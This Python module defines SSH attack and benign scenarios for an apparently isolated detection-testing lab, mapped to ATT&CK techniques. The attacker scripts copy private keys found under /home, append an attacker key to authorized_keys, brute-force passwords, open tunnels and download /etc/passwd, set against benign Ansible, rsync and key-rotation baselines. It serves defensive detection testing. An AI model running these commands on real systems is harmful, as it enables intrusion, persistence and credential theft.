"""The lab's scenarios: what an attacker (or, for the benign ones, an administrator or their
automation) types on the attacker host, run by `sh` in the attacker namespace; a scenario's `agent`
runs first on the target, as a root service outside any login.

Placeholders `@NAME@` are replaced before the run (target address, user names, password, paths),
so `scenarios.json` records the concrete commands. The Atomic Red Team tests T1021.004 (none for
Linux), T1098.004, T1552.004, T1572 and T1110 informed the choice; the commands are our own.
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Scenario:
    name: str
    title: str
    techniques: tuple[str, ...]
    script: str
    actor: str = "attacker"  # "attacker": root on the attacker host; "admin": the admin user there
    atomic: bool = False  # one of the four Atomic-style scenarios the live test checks
    benign: bool = False  # benign activity (the baseline, automation): its alerts are false positives
    needs: tuple[str, ...] = field(default_factory=tuple)  # tools beyond ssh/sshpass
    # run first, on the target, as a root service outside any login session (a provisioning agent)
    agent: str = ""
    live: bool = False  # one of the benign scenarios the live test performs


# Background tunnels (-f) are ended by the attacker with pkill limited to the attacker host's
# network namespace (--ns), so nothing else on the machine can match.
# The attacker does not know the target's host key, so it skips the check, as the Atomic tests do.
NOCHECK = "-o StrictHostKeyChecking=no"

SCENARIOS: list[Scenario] = [
    Scenario(
        "ssh_password", "lateral movement with a password, running commands",
        ("T1021.004", "T1078"),
        # -tt: a terminal session, as an operator's shell would have (sshd then audits the login)
        f"sshpass -p '@PASSWORD@' ssh -tt {NOCHECK} @VICTIM@@@TARGET@ 'id; uname -a; cat /etc/hostname'\n",
        atomic=True),
    Scenario(
        "socks_tunnel", "dynamic (SOCKS) forward in the background: ssh -D 1080 -N -f",
        ("T1572", "T1090"),
        # with a key: under sshpass, -f's fork can lose a race with sshpass's exit (SIGHUP)
        f"ssh -i /home/@VICTIM@/.ssh/id_rsa {NOCHECK} -D 1080 -N -f @VICTIM@@@TARGET@\n"
        "sleep 2\n"
        "pkill --ns $$ --nslist net -f '^ssh .*-D 1080'\n",
        atomic=True),
    Scenario(
        "authorized_keys", "a new attacker key appended to the victim's authorized_keys, then used",
        ("T1098.004",),
        "ssh-keygen -q -t ed25519 -N '' -C kali@attacker -f /tmp/.k\n"
        "key=$(cat /tmp/.k.pub)\n"
        f"sshpass -p '@PASSWORD@' ssh {NOCHECK} @VICTIM@@@TARGET@ "
        "\"mkdir -p ~/.ssh && echo '$key' >> ~/.ssh/authorized_keys\"\n"
        f"ssh -i /tmp/.k {NOCHECK} -o BatchMode=yes @VICTIM@@@TARGET@ id\n",
        atomic=True),
    Scenario(
        "stolen_key", "private key found and copied, then used: ssh -i /tmp/stolen_id_rsa",
        ("T1552.004", "T1021.004"),
        "find /home -name id_rsa -exec cp {} /tmp/stolen_id_rsa \\; 2>/dev/null\n"
        "chmod 600 /tmp/stolen_id_rsa\n"
        f"ssh -i /tmp/stolen_id_rsa {NOCHECK} @VICTIM@@@TARGET@ 'id; ls -la ~'\n",
        atomic=True),
    Scenario(
        "proxycommand", "a second hop through the target with ProxyCommand (ssh -W)",
        ("T1572", "T1021.004"),
        "K=/home/@VICTIM@/.ssh/id_rsa\n"
        f"ssh -i $K {NOCHECK} -o \"ProxyCommand=ssh -i $K {NOCHECK} -W %h:%p @VICTIM@@@TARGET@\" "
        "@VICTIM@@127.0.0.1 hostname\n"),
    Scenario(
        "proxyjump", "a second hop through the target with ProxyJump (ssh -J)",
        ("T1572", "T1021.004"),
        # -J does not pass command-line options to the jump host's ssh, -F is passed
        "printf 'IdentityFile /home/@VICTIM@/.ssh/id_rsa\\nStrictHostKeyChecking no\\n' > /tmp/.j\n"
        "ssh -F /tmp/.j -J @VICTIM@@@TARGET@ @VICTIM@@127.0.0.1 hostname\n"),
    Scenario(
        "local_forward", "local forward to the target's loopback sshd (-L), used, then closed",
        ("T1572",),
        "K=/home/@VICTIM@/.ssh/id_rsa\n"
        f"ssh -i $K {NOCHECK} -f -N -L 2222:127.0.0.1:22 @VICTIM@@@TARGET@\n"
        f"ssh -i $K {NOCHECK} -p 2222 @VICTIM@@127.0.0.1 id\n"
        "pkill --ns $$ --nslist net -f '^ssh .*-L 2222:'\n"),
    Scenario(
        "remote_forward", "remote forward (-R) opening a port on the target back to the attacker",
        ("T1572",),
        "K=/home/@VICTIM@/.ssh/id_rsa\n"
        f"ssh -i $K {NOCHECK} -f -N -R 4444:127.0.0.1:4444 @VICTIM@@@TARGET@\n"
        "sleep 2\n"
        "pkill --ns $$ --nslist net -f '^ssh .*-R 4444:'\n"),
    Scenario(
        "scp_transfer", "scp: a tool uploaded to the victim's home, /etc/passwd downloaded",
        ("T1105", "T1048", "T1021.004"),
        "K=/home/@VICTIM@/.ssh/id_rsa\n"
        "printf '#!/bin/sh\\nid\\n' > /tmp/agent.sh\n"
        f"scp -i $K {NOCHECK} /tmp/agent.sh @VICTIM@@@TARGET@:.agent.sh\n"
        f"scp -i $K {NOCHECK} @VICTIM@@@TARGET@:/etc/passwd /tmp/loot_passwd\n"),
    Scenario(
        "brute_force", "password guessing (5 wrong passwords, 2 unknown users), then success",
        ("T1110.001", "T1021.004"),
        "for p in 123456 password qwerty letmein Winter2025; do\n"
        f"  sshpass -p \"$p\" ssh {NOCHECK} -o NumberOfPasswordPrompts=1 @VICTIM@@@TARGET@ true\n"
        "done\n"
        "for u in oracle postgres; do\n"
        f"  sshpass -p admin ssh {NOCHECK} -o NumberOfPasswordPrompts=1 $u@@TARGET@ true\n"
        "done\n"
        f"sshpass -p '@PASSWORD@' ssh {NOCHECK} @VICTIM@@@TARGET@ id\n"),
    Scenario(
        "container_ssh", "ssh client started inside a runc container (busybox rootfs) on the attacker host",
        ("T1610", "T1021.004"),
        "runc run --bundle @BUNDLE@ thlab-ssh\n",
        needs=("runc", "busybox")),
    Scenario(
        "baseline", "benign: the admin's ordinary ssh and scp, default options, key auth",
        (),
        "ssh @ADMIN@@@TARGET@ uptime\n"
        "echo 'weekly report' > /tmp/report.txt\n"
        "scp /tmp/report.txt @ADMIN@@@TARGET@:\n"
        "ssh @ADMIN@@@TARGET@ 'df -h / && ls -l report.txt'\n",
        actor="admin", benign=True),
]

# -- benign automation: the published false positives of SSH lateral-movement detections, performed
# the way the tools really drive ssh, by the admin user (lab-admin) of the attacker host (here the
# control node, backup server or monitoring server), with their own keys.

# The arguments Ansible's ssh connection plugin gives ssh (ansible-core 2.1x, as `-vvv` shows them):
# compression, a persistent master (ControlMaster/ControlPersist/ControlPath under ~/.ansible/cp),
# StrictHostKeyChecking=no when host_key_checking is off, the key of ansible_ssh_private_key_file,
# key-only authentication, the remote user and a connect timeout, values quoted as Ansible quotes them.
ANSIBLE_SSH = ("-C -o ControlMaster=auto -o ControlPersist=60s -o StrictHostKeyChecking=no "
               "-o 'IdentityFile=\"/home/@ADMIN@/.ssh/@KEY@\"' -o KbdInteractiveAuthentication=no "
               "-o PreferredAuthentications=gssapi-with-mic,gssapi-keyex,hostbased,publickey "
               "-o PasswordAuthentication=no -o 'User=\"@ADMIN@\"' -o ConnectTimeout=10 "
               "-o 'ControlPath=\"/home/@ADMIN@/.ansible/cp/@CP@\"'")

# A play of two modules (ping, then a command) as Ansible runs each without pipelining: find the
# remote home, make a private temp dir, upload the module with sftp over the master connection,
# make it executable, run it with python3, remove the temp dir; every remote command is
# `/bin/sh -c '... && sleep 0'`. The master is closed at the end (meta: reset_connection does
# `ssh -O stop`), so that its session ends inside the scenario's window.
ANSIBLE_PLAY = r"""CP=/home/@ADMIN@/.ansible/cp/@CP@
mkdir -p /home/@ADMIN@/.ansible/cp /home/@ADMIN@/.ansible/tmp/ansible-local-4021q8x
L=/home/@ADMIN@/.ansible/tmp/ansible-local-4021q8x/tmpk3v9x1
printf 'import json, os\nprint(json.dumps({"changed": False, "ping": "pong", "uid": os.getuid()}))\n' > $L
for m in ping command; do
  T=ansible-tmp-$(date +%s).41-4021-$m
  R=/home/@ADMIN@/.ansible/tmp/$T
  ssh @SSH@ @TARGET@ "/bin/sh -c 'echo ~@ADMIN@ && sleep 0'"
  ssh @SSH@ @TARGET@ "/bin/sh -c '( umask 77 && mkdir -p \"\` echo /home/@ADMIN@/.ansible/tmp \`\"&& mkdir \"\` echo $R \`\" && echo $T=\"\` echo $R \`\" ) && sleep 0'"
  echo "put $L $R/AnsiballZ_$m.py" | sftp -b - @SSH@ '[@TARGET@]'
  ssh @SSH@ @TARGET@ "/bin/sh -c 'chmod u+x $R/ $R/AnsiballZ_$m.py && sleep 0'"
  ssh @SSH@ @TARGET@ "/bin/sh -c '/usr/bin/python3 $R/AnsiballZ_$m.py && sleep 0'"
  ssh @SSH@ @TARGET@ "/bin/sh -c 'rm -f -r $R/ > /dev/null 2>&1 && sleep 0'"
done
ssh -O stop -o "ControlPath=\"$CP\"" @TARGET@
"""


def _ansible(key: str, cp: str, script: str) -> str:
    return script.replace("@SSH@", ANSIBLE_SSH).replace("@KEY@", key).replace("@CP@", cp)


BENIGN: list[Scenario] = [
    Scenario(
        "ansible_play", "benign: an Ansible-style play (ControlMaster, sftp module transfer, python3 over /bin/sh -c)",
        (), _ansible("automation_ed25519", "5f3c2a91d0", ANSIBLE_PLAY), actor="admin", benign=True, live=True),
    Scenario(
        "provisioning_agent", "benign: a provisioning agent rewrites authorized_keys, the automation reconnects",
        (),
        # the automation's first connection with the key the agent just installed
        _ansible("deploy_ed25519", "0c9e14be27",
                 "ssh @SSH@ @TARGET@ \"/bin/sh -c 'echo ~@ADMIN@ && sleep 0'\"\n"
                 "ssh @SSH@ @TARGET@ \"/bin/sh -c '/usr/bin/python3 -c \\\"import platform; "
                 "print(platform.node())\\\" && sleep 0'\"\n"
                 "ssh -O stop -o 'ControlPath=\"/home/@ADMIN@/.ansible/cp/@CP@\"' @TARGET@\n"),
        actor="admin", benign=True, live=True,
        # on the target, as root outside any login (a cloud or configuration-management agent): the
        # account's keys rewritten atomically (a temporary file in ~/.ssh, then renamed into place)
        agent=r"""/usr/bin/python3 - <<'PY'
import os, pwd, tempfile
u = pwd.getpwnam("@ADMIN@")
path = os.path.join(u.pw_dir, ".ssh", "authorized_keys")
with open(path) as f:
    keys = [ln for ln in f.read().splitlines() if ln.strip()]
if "@DEPLOY_PUB@" not in keys:
    keys.append("@DEPLOY_PUB@")
fd, tmp = tempfile.mkstemp(prefix=".authorized_keys.", dir=os.path.dirname(path))
with os.fdopen(fd, "w") as f:
    f.write("\n".join(keys) + "\n")
os.chown(tmp, u.pw_uid, u.pw_gid)
os.chmod(tmp, 0o600)
os.replace(tmp, path)
PY
"""),
    Scenario(
        "rsync_backup", "benign: an rsync backup pulled over ssh (rsync -e 'ssh -i ... -o BatchMode=yes')",
        (),
        # rsync runs: ssh -i KEY -o BatchMode=yes -l USER HOST rsync --server --sender ...
        "mkdir -p /tmp/backup\n"
        "rsync -a --delete -e 'ssh -i /home/@ADMIN@/.ssh/automation_ed25519 -o BatchMode=yes' "
        "@ADMIN@@@TARGET@:data/ /tmp/backup/data/\n"
        "ls /tmp/backup/data\n",
        actor="admin", benign=True, needs=("rsync",)),
    Scenario(
        "monitoring_probe", "benign: check_by_ssh probes in BatchMode (uptime, disk)",
        (),
        # check_by_ssh runs: /usr/bin/ssh -l USER -i KEY -o BatchMode=yes -o StrictHostKeyChecking=no HOST CMD
        "@CHECK_BY_SSH@ -H @TARGET@ -l @ADMIN@ -i /home/@ADMIN@/.ssh/automation_ed25519 -o BatchMode=yes "
        "-o StrictHostKeyChecking=no -t 10 -C uptime\n"
        "@CHECK_BY_SSH@ -H @TARGET@ -l @ADMIN@ -i /home/@ADMIN@/.ssh/automation_ed25519 -o BatchMode=yes "
        "-o StrictHostKeyChecking=no -t 10 -C 'df -P /'\n",
        actor="admin", benign=True, needs=("check_by_ssh",)),
    Scenario(
        "bastion_proxyjump", "benign: the admin reaches an internal host through a bastion (ProxyJump in ~/.ssh/config)",
        (),
        # ~/.ssh/config (set up by the lab): Host db-internal, HostName 127.0.0.1, ProxyJump the target
        "ssh db-internal 'hostname; uptime'\n",
        actor="admin", benign=True, live=True),
    Scenario(
        "db_tunnel", "benign: an admin's database tunnel in the background (ssh -f -N -L 15432:127.0.0.1:5432)",
        (),
        "ssh -f -N -L 15432:127.0.0.1:5432 @ADMIN@@@TARGET@\n"
        "sleep 2\n"
        "pkill --ns $$ --nslist net -u @ADMIN@ -f '^ssh -f -N -L 15432:'\n",
        actor="admin", benign=True, live=True),
    Scenario(
        "git_over_ssh", "benign: a CI job clones and pushes over ssh (GIT_SSH_COMMAND with a deploy key)",
        (),
        # git runs GIT_SSH_COMMAND through the shell: ssh -i KEY -o IdentitiesOnly=yes [-o SendEnv=GIT_PROTOCOL]
        # USER@HOST "git-upload-pack 'repos/app.git'" (then git-receive-pack for the push)
        "export GIT_SSH_COMMAND='ssh -i /home/@ADMIN@/.ssh/automation_ed25519 -o IdentitiesOnly=yes'\n"
        "cd /tmp && rm -rf app && git clone -q @ADMIN@@@TARGET@:repos/app.git app 2>&1\n"
        "cd app && echo \"release $(date +%s)\" >> CHANGELOG && git add CHANGELOG\n"
        "git -c user.name=ci -c user.email=ci@example.org commit -q -m release && git push -q origin HEAD 2>&1\n",
        actor="admin", benign=True, needs=("git",)),
    Scenario(
        "key_rotation", "benign: the admin rotates their key (ssh-keygen in ~/.ssh, ssh-copy-id, old key removed)",
        (),
        "ssh-keygen -q -t ed25519 -N '' -C @ADMIN@@workstation-2027 -f ~/.ssh/id_ed25519_2027\n"
        "ssh-copy-id -i ~/.ssh/id_ed25519_2027.pub @ADMIN@@@TARGET@ 2>&1\n"
        "ssh -i ~/.ssh/id_ed25519_2027 -o IdentitiesOnly=yes @ADMIN@@@TARGET@ "
        "\"sed -i '/ @ADMIN@@workstation\\$/d' ~/.ssh/authorized_keys\"\n"
        "mv ~/.ssh/id_ed25519_2027 ~/.ssh/id_ed25519 && mv ~/.ssh/id_ed25519_2027.pub ~/.ssh/id_ed25519.pub\n"
        "ssh @ADMIN@@@TARGET@ true\n",
        actor="admin", benign=True, live=True),
]
# key_rotation replaces the admin's default key: it runs last
SCENARIOS += BENIGN

BY_NAME = {s.name: s for s in SCENARIOS}
ATOMIC = [s.name for s in SCENARIOS if s.atomic]
LIVE_BENIGN = [s.name for s in SCENARIOS if s.live]  # the benign subset the live test performs


def render(script: str, values: dict[str, str]) -> str:
    for key, value in values.items():
        script = script.replace(f"@{key}@", value)
    return script
